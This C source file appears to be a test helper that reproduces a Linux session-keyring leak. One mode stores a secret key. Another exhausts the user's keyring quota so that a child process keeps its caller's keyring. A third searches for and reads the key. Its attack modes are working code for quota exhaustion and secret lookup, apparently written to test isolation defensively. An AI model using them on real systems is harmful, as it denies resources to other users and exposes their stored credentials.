/* A secret in the caller's session keyring, and an attacker who looks for it:
 *
 *     keys hold NAME COMMAND...   runs COMMAND in a session with a key NAME
 *     keys find NAME              prints "found" if the session's keyring has such a key
 *     keys exhaust                makes keyrings until the quota is used up, and waits: a process
 *                                 that can't get a keyring of its own keeps its caller's */
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static long add_key(const char *type, const char *name, const char *value, size_t length)
{
    return syscall(SYS_add_key, type, name, value, length, KEY_SPEC_SESSION_KEYRING);
}

static int hold(const char *name, char **command)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        add_key("user", name, "secret", 6) < 0) {
        perror("keys");
        return 1;
    }
    execvp(*command, command);
    return 127;
}

static int find(const char *name)
{
    char value[64];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
    if (key < 0) {
        perror("search");
        return 1;
    }
    long length = syscall(SYS_keyctl, KEYCTL_READ, key, value, sizeof value);
    printf("found %ld, %ld bytes\n", key, length);
    return 0;
}

static int exhaust(void)
{
    int count = 0;
    for (char name[32]; count < 100000; count++) {
        snprintf(name, sizeof name, "filler-%d", count);
        if (add_key("keyring", name, NULL, 0) < 0)
            break;
    }
    /* What remains in bytes; a keyring's name counts, too. */
    static char text[20000];
    for (size_t length = sizeof text; length > 0; length /= 2) {
        while (add_key("user", "rest", text, length) >= 0 && count < 200000)
            count += 100000;
    }
    printf("exhausted\n");
    fflush(stdout);
    pause();
    return 0;
}

int main(int count, char **arguments)
{
    if (count > 3 && strcmp(arguments[1], "hold") == 0)
        return hold(arguments[2], arguments + 3);
    if (count == 3 && strcmp(arguments[1], "find") == 0)
        return find(arguments[2]);
    return count == 2 && strcmp(arguments[1], "exhaust") == 0 ? exhaust() : 2;
}
